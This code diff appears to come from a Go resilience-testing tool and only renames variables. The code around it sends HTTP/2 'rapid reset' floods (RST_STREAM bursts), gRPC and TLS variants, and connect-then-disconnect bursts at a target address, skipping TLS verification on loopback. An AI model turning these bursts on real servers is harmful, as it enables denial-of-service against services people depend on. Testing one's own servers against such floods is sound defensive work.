@@ -44,13 +44,13 @@ func attacks() []attack {
 				f.WriteRSTStream(id, http2.ErrCodeCancel))
 		}, method, fields...)
 	}
-	rapid := resets("GET")
-	grpc := resets("POST", "content-type", "application/grpc", "te", "trailers")
+	rapidReset := resets("GET")
+	grpcReset := resets("POST", "content-type", "application/grpc", "te", "trailers")
 	list := []attack{
-		{name: "rapid reset", burst: rapid, idsPerBurst: streamsPerBurst},
-		{name: "rapid reset, new connections", burst: rapid, idsPerBurst: streamsPerBurst, newConnections: true},
-		{name: "rapid reset over TLS", burst: rapid, idsPerBurst: streamsPerBurst, tls: true},
-		{name: "rapid reset of gRPC", burst: grpc, idsPerBurst: streamsPerBurst},
+		{name: "rapid reset", burst: rapidReset, idsPerBurst: streamsPerBurst},
+		{name: "rapid reset, new connections", burst: rapidReset, idsPerBurst: streamsPerBurst, newConnections: true},
+		{name: "rapid reset over TLS", burst: rapidReset, idsPerBurst: streamsPerBurst, tls: true},
+		{name: "rapid reset of gRPC", burst: grpcReset, idsPerBurst: streamsPerBurst},
 		{name: "requests, then disconnect", burst: framesBurst(func(f *http2.Framer, block []byte, id uint32) error {
 			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
 		}, "GET"), idsPerBurst: streamsPerBurst, newConnections: true},
@@ -142,14 +142,14 @@ type load struct {
 func (a attack) run(address string, l load) (bursts, connections int) {
 	var sent, opened atomic.Int64
 	var wg sync.WaitGroup
-	until := time.Now().Add(l.duration)
+	deadline := time.Now().Add(l.duration)
 	for range l.connections {
 		wg.Go(func() {
 			c := attacker{attack: a, address: address}
 			defer c.close()
 			ticker := time.NewTicker(l.interval)
 			defer ticker.Stop()
-			for time.Now().Before(until) {
+			for time.Now().Before(deadline) {
 				if c.conn == nil && c.connect() == nil {
 					opened.Add(1)
 				}
@@ -164,7 +164,7 @@ func (a attack) run(address string, l load) (bursts, connections int) {
 				}
 				select {
 				case <-ticker.C:
-				case <-time.After(time.Until(until)):
+				case <-time.After(time.Until(deadline)):
 				}
 			}
 		})
@@ -190,25 +190,25 @@ func (c *attacker) connect() error {
 		return err
 	}
 	if c.tls {
-		secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // on loopback
-		if err := secure.Handshake(); err != nil {
+		tlsConn := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // on loopback
+		if err := tlsConn.Handshake(); err != nil {
 			_ = conn.Close() // unusable after a failed handshake
 			return err
 		}
-		conn = secure
+		conn = tlsConn
 	}
 	c.conn, c.next, c.done = conn, 1, make(chan struct{})
 	if c.rpc == "" && !c.http1 {
 		// Preface, empty SETTINGS, and the ACK of the server's SETTINGS.
-		hello := append([]byte(http2.ClientPreface), 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0)
-		if _, err := conn.Write(hello); err != nil {
+		preface := append([]byte(http2.ClientPreface), 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0)
+		if _, err := conn.Write(preface); err != nil {
 			c.close()
 			return err
 		}
 	}
-	ended := c.done
+	done := c.done
 	go func() {
-		defer close(ended)
+		defer close(done)
 		_, _ = io.Copy(io.Discard, conn) // until the connection ends
 	}()
 	return nil
